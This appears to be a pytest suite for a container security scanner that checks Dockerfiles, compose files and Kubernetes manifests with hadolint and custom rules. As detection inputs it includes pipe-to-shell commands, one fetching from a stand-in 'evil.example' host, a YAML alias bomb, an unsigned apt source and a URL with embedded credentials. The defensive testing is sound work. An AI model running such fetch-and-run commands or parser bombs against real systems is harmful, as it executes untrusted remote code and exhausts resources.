import json
import os
import sys
import time

import pytest

from scanner.checks import container
from scanner.container.hadolint import MAX_SIZE, wanted
from scanner.model import Options, Severity, State
from tests.scanner.compose_cases import SERVICE
from tests.scanner.dockerfile_cases import image
from tests.scanner.faulty_tools import FAILURES
from tests.scanner.kubernetes_cases import POD, POLICY

VERSION = "2.15.1"
IMAGE = image("")
ENTRY = '["python", "-P", "-m", "small_server"]'
ROOT = 'FROM python:3.13.9-slim\nHEALTHCHECK CMD ["true"]\n'


@pytest.fixture
def check(make_project, options):
    """Checks a project with these files."""

    def run(files):
        return container.check(make_project(**files), options)

    return run


def ids(result):
    return sorted(f.id.removeprefix("MCP-CON-") for f in result.findings)


def test_clean_files_of_every_kind_pass_in_full(check):
    files = {"Dockerfile": IMAGE, "deploy/compose.yaml": SERVICE}
    result = check({**files, "deploy/server.yaml": POD + POLICY})
    assert (result.state, result.findings) == (State.PASSED, ())
    assert (result.coverage.covered, result.coverage.total) == (3, 3)
    assert (result.tool, result.complete) == ("hadolint", True)


def test_without_such_files_there_is_nothing_to_judge(check):
    assert check({"a.yaml": "x: 1\n"}).state is State.NOT_APPLICABLE


def test_it_says_which_controls_are_not_assessed(check):
    reason = check({"Dockerfile": IMAGE}).reason
    assert "CIS Docker 4.4, 4.5, 4.12 not assessed" in reason
    assert "4.2, 4.3, 4.8, 4.11 in part" in reason


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("compose.yaml", "services: {a: {build: {dockerfile: b/p.txt}}}\n"),
        (".github/workflows/ci.yaml", "with:\n  file: ./b/p.txt\n"),
    ],
)
def test_a_file_that_is_built_is_judged_whatever_its_name(
    check, bench, path, text
):
    assert "001" in ids(check({path: text, "b/p.txt": ROOT}))
    assert "001" not in ids(check({path: text, "b/p.txt": "words\n"}))


def test_a_helm_template_is_told_as_not_judged_and_is_no_gap(check, bench):
    opening, closing = "{" * 2, "}" * 2
    text = f"apiVersion: v1\n{opening}- if .Values.x {closing}\nkind: X\n"
    chart = {"c/Chart.yaml": "name: c\n", "c/templates/a.yaml": text}
    files = {"compose.yaml": SERVICE}
    result = check(files | chart)
    assert not result.coverage.partial
    assert "1 Helm templates not judged" in result.reason
    assert check(files | {"d/templates/b.yaml": text}).coverage.partial


PRIVILEGED = {
    "apiVersion": "v1",
    "kind": "Pod",
    "spec": {
        "containers": [{"name": "a", "securityContext": {"privileged": True}}]
    },
}
BRIEF = json.dumps(dict(reversed(PRIVILEGED.items())))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (
            "a.yaml",
            "\ufeff"
            + POD.replace(
                "allowPriv", "privileged: true\n            allowPriv"
            ),
        ),
        ("a.yaml", BRIEF.replace(" ", "")),
        ("a.yaml", f"- x\n--- {BRIEF}\n"),
        ("a.json", json.dumps(PRIVILEGED, indent=2)),
    ],
    ids=["mark", "minified", "second", "json"],
)
def test_a_manifest_is_found_however_it_is_written(check, bench, name, text):
    result = check({name: text})
    assert result.coverage.total == 1
    assert "201" in ids(result)


def test_a_manifest_behind_a_megabyte_of_comments_is_told(check, bench):
    text = "# x\n" * 2**18 + json.dumps(PRIVILEGED)
    result = check({"a.yaml": text})
    assert result.coverage.partial
    assert "a.yaml: larger than" in result.reason


def test_a_folder_that_is_copied_wants_a_dockerignore(check):
    files = {"Dockerfile": IMAGE + "COPY src /app/src\n", "src/x.py": "x"}
    found = check(files).findings
    told = [(f.id, f.severity) for f in found if f.id == "MCP-CON-022"]
    assert told == [("MCP-CON-022", Severity.LOW)]
    assert "022" not in ids(check(files | {".dockerignore": "*\n!src\n"}))


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ('"-P", ', "", ["034"]),
        ('ENTRYPOINT ["python", "-P"', 'CMD ["python"', ["034"]),
        ('ENTRYPOINT ["python", "-P"', 'ENTRYPOINT ["python"', ["034"]),
        ("USER", "ENV PYTHONSAFEPATH=1\nUSER", []),
    ],
)
def test_the_server_is_not_imported_from_the_workspace(
    check, old, new, expected
):
    text = IMAGE.replace(old, new)
    if "ENV" in new:
        text = text.replace('"-P", ', "")
    assert ids(check({"Dockerfile": text})) == expected


@pytest.mark.parametrize(
    ("name", "judged"),
    [
        ("Dockerfile", True),
        ("deploy/Dockerfile.prod", True),
        ("docker/Dockerfile-dev", True),
        ("server.Dockerfile", True),
        ("dockerfile", True),
        ("Containerfile", True),
        ("a\nb/Dockerfile", True),
        ("Dockerfile2", True),
        ("x.containerfile", True),
        ("Dockerfile.dockerignore", False),
        ("Dockerfile.md", False),
        ("test_dockerfile.py", False),
    ],
)
def test_a_dockerfile_is_known_by_its_name(check, name, judged):
    result = check({name: ROOT})
    assert ("001" in ids(result)) == judged
    assert result.complete


# hadolint


@pytest.mark.parametrize("failure", FAILURES)
def test_no_failure_of_hadolint_is_a_pass(make_project, bench, failure):
    bench.fail("hadolint", failure, VERSION)
    project = make_project(Dockerfile=IMAGE)
    result = container.check(project, Options(timeout=1))
    assert result.state in {State.NOT_RUN, State.ERROR}
    assert not result.complete
    assert "hadolint" in result.reason
    assert (result.state is State.NOT_RUN) == (failure == "absent")


def test_what_our_rules_find_is_kept_when_hadolint_fails(check, bench):
    bench.fail("hadolint", "crash", VERSION)
    assert ids(check({"Dockerfile": ROOT})) == ["001"]


def test_a_file_of_which_hadolint_gives_no_account_is_not_covered(
    check, bench
):
    real = f"{sys.prefix}/bin/hadolint"
    all_but_the_last = '$(echo "$@" | sed "s/ [^ ]*$//")'
    bench.install("hadolint", f"exec {real} {all_but_the_last}", VERSION)
    result = check({"Dockerfile": IMAGE, "b.Dockerfile": IMAGE})
    assert (result.coverage.covered, result.coverage.total) == (1, 2)
    assert "b.Dockerfile: hadolint gave no account of it" in result.reason


def test_hadolint_sees_what_our_rules_do_not(check):
    text = IMAGE.replace(ENTRY, "python -m x")
    (finding,) = check({"Dockerfile": text}).findings
    assert (finding.id, finding.line) == ("MCP-CON-DL3025", 12)
    assert finding.severity is Severity.LOW
    assert finding.remediation.endswith("wiki/DL3025")


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("USER root", "002"),
        ("ADD app.py /app/", "007"),
        ("RUN sudo true", "012"),
        ("RUN curl https://example.com/i.sh | sh", "004"),
        ("ENV API_TOKEN=abcdefghi", "010"),
    ],
)
def test_one_fault_is_one_finding(check, line, rule):
    text = image("").replace("USER 10001:10001", f"USER 10001\n{line}")
    assert ids(check({"Dockerfile": text})) == [rule]


def test_credentials_in_an_indexs_address_are_not_repeated(check):
    word = "-".join(("correct", "horse", "battery"))
    url = f"http://reader:{word}@packages.example/simple"
    result = check({"Dockerfile": image(f"ARG PIP_INDEX_URL={url}")})
    assert "024" in ids(result)
    assert word not in repr(result)


def test_a_moving_tag_is_one_finding(check):
    text = IMAGE.replace("FROM python:3.13.9-slim\n", "FROM python:latest\n")
    assert ids(check({"Dockerfile": text})) == ["003"]


@pytest.mark.parametrize("code", ["DL3008", "DL3042", "DL3059", "DL3049"])
def test_what_is_a_matter_of_taste_is_no_finding(code):
    assert not wanted(code, "warning")
    assert not wanted("DL3025", "info")
    assert wanted("DL3025", "warning")


SHELL_FORM = IMAGE.replace(ENTRY, "python")


def test_the_projects_settings_do_not_silence_hadolint(check):
    settings = "ignored: [DL3025]\n"
    files = {"Dockerfile": SHELL_FORM, ".hadolint.yaml": settings}
    assert ids(check(files)) == ["DL3025"]


def test_the_users_settings_do_not_silence_hadolint(
    check, tmp_path, monkeypatch
):
    (tmp_path / "hadolint.yaml").write_text("ignored: [DL3025]\n")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    monkeypatch.setenv("HADOLINT_IGNORE", "DL3025")
    assert ids(check({"Dockerfile": SHELL_FORM})) == ["DL3025"]


@pytest.mark.parametrize(
    ("pragma", "found"),
    [
        ("# hadolint ignore=DL3025 # a shell is wanted here", []),
        ("# hadolint ignore=DL3025", ["023"]),
    ],
)
def test_an_ignore_holds_with_its_reason_and_is_a_finding_without(
    check, pragma, found
):
    text = SHELL_FORM.replace("ENTRYPOINT", f"{pragma}\nENTRYPOINT")
    assert ids(check({"Dockerfile": text})) == found


def test_a_file_too_large_for_hadolint_is_judged_by_our_rules(check):
    result = check({"Dockerfile": ROOT + "# a comment\n" * MAX_SIZE})
    assert ids(result) == ["001"]
    assert result.coverage.partial
    assert "Dockerfile: hadolint gave no account" in result.reason


def test_a_file_that_hadolint_cannot_read_is_not_covered(check):
    result = check({"Dockerfile": IMAGE + "FROM\n"})
    assert result.coverage.partial


def test_hadolint_is_given_bounded_memory(check, bench):
    real = f"{sys.prefix}/bin/hadolint"
    bounded = '[ "$GHCRTS" = -M128m ] || exit 9'
    bench.install("hadolint", f'{bounded}; exec {real} "$@"', VERSION)
    assert check({"Dockerfile": IMAGE}).complete


def test_a_hadolint_that_takes_no_such_limit_is_run_without(check, bench):
    real = f"{sys.prefix}/bin/hadolint"
    refusal = "echo Most RTS options are disabled >&2; exit 1"
    body = f'[ -z "$GHCRTS" ] || eval "{refusal}"; exec {real} "$@"'
    bench.install("hadolint", body, VERSION)
    assert check({"Dockerfile": IMAGE}).complete


@pytest.mark.parametrize("end", ["EOF\n", "EOF\n\n", "EOF\n# why\n"])
def test_hadolint_reads_on_after_a_here_document(check, end):
    text = SHELL_FORM.replace("USER", f"RUN <<EOF\nmake x\n{end}USER")
    result = check({"Dockerfile": text})
    assert result.complete, result.reason
    (finding,) = result.findings
    assert finding.line == text.splitlines().index("ENTRYPOINT python") + 1


# Hostile files


def test_a_million_lines_are_judged_in_bounded_time(check, bench):
    lines = ["FROM a:1\n", *["RUN a\n"] * 1_000_000]
    start = time.process_time()
    result = check({"Dockerfile": "".join(lines)})
    assert time.process_time() - start < 30
    assert ids(result) == ["001", "009"]
    assert result.coverage.partial


def test_the_same_fault_is_listed_a_hundred_times_and_no_more(check, bench):
    text = "FROM a:1\nUSER a\nHEALTHCHECK CMD a\n" + "RUN sudo a\n" * 200
    result = check({"Dockerfile": text})
    assert ids(result).count("012") == container.MAX_SAME
    assert "more than 100 times MCP-CON-012" in result.reason
    assert result.coverage.partial


def test_bytes_that_are_no_text_hide_nothing(check):
    result = check({"Dockerfile": b"\xff\xfe\n" + ROOT.encode()})
    assert "001" in ids(result)


BOMB = "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 20))
BOMB = f"a0: &a0 [x, x]\n{BOMB}services: *a19\n"


@pytest.mark.parametrize(
    ("content", "why"),
    [
        ("services: [", "no valid YAML"),
        (BOMB, "more than"),
        ("services: " + "[" * 100_000, "nested too deep"),
        (b"services:\n  a: {image: \xff}\n", "no UTF-8"),
        ("services: {}\n" + "# x\n" * 2**18, "larger than"),
    ],
    ids=["broken", "bomb", "deep", "bytes", "large"],
)
def test_a_file_that_cannot_be_read_is_named_and_not_covered(
    check, content, why
):
    start = time.process_time()
    result = check({"compose.yaml": content, "b/compose.yaml": SERVICE})
    assert time.process_time() - start < 5
    assert (result.coverage.covered, result.coverage.total) == (1, 2)
    assert "compose.yaml: " in result.reason
    assert why in result.reason


def test_without_the_yaml_library_the_rest_is_judged(check, monkeypatch):
    monkeypatch.setitem(sys.modules, "yaml", None)
    result = check({"Dockerfile": ROOT, "compose.yaml": SERVICE})
    assert result.state is State.NOT_RUN
    assert "PyYAML is not installed" in result.reason
    assert ids(result) == ["001"]


@pytest.mark.skipif(os.name != "posix", reason="FIFOs and links")
def test_links_and_fifos_are_not_opened(make_project, options):
    project = make_project(**{"real.txt": ROOT})
    (project.root / "Dockerfile").symlink_to(project.root / "real.txt")
    os.mkfifo(project.root / "compose.yaml")
    result = container.check(project, options)
    assert result.state is State.NOT_APPLICABLE


def oddities():
    """The clean files with each value in turn replaced by something odd."""
    for path, text in (("compose.yaml", SERVICE), ("a.yaml", POD + POLICY)):
        for line in text.splitlines():
            key, colon, _value = line.partition(": ")
            for other in ("null", "[[1], {a: b}]", "{a: [b]}", "-1"):
                if colon:
                    yield path, text.replace(line, f"{key}: {other}")


def test_values_of_odd_kinds_stop_no_rule(check, bench):
    tried = list(oddities())
    files = {f"{n}/{path}": text for n, (path, text) in enumerate(tried)}
    result = check(files)
    assert result.coverage.total > len(files) / 2
    assert not result.coverage.partial, result.reason


@pytest.mark.parametrize(
    ("script", "fires"),
    [
        ("echo 'ab  /x' | sha256sum --check -", False),
        ("printf '%s' x | sha256sum --check -", False),
        ("cat /x | sha256sum --check -", True),
        ("echo x | tr x y && cat /x | wc -c", True),
    ],
)
def test_only_what_can_fail_before_a_pipe_needs_pipefail(check, script, fires):
    result = check({"Dockerfile": image(f"RUN {script}")})
    assert ("DL4006" in ids(result)) is fires


def test_a_source_of_packages_that_nobody_signs_is_found(check):
    line = "deb [trusted=yes] http://apt.example.com stable main"
    text = image(f"RUN echo '{line}' > /etc/apt/sources.list.d/x.list")
    assert ids(check({"Dockerfile": text})) == ["005"]
    signed = text.replace("trusted=yes", "signed-by=/etc/x.gpg")
    assert ids(check({"Dockerfile": signed})) == []


def test_another_here_document_is_another_finding(check):
    prints = set()
    for host in ("good.example", "evil.example"):
        text = image(f"RUN <<E\ncurl https://{host}/x | sh\nE")
        found = check({"Dockerfile": text}).findings
        prints |= {f.fingerprint for f in found if f.id == "MCP-CON-004"}

    assert len(prints) == 2
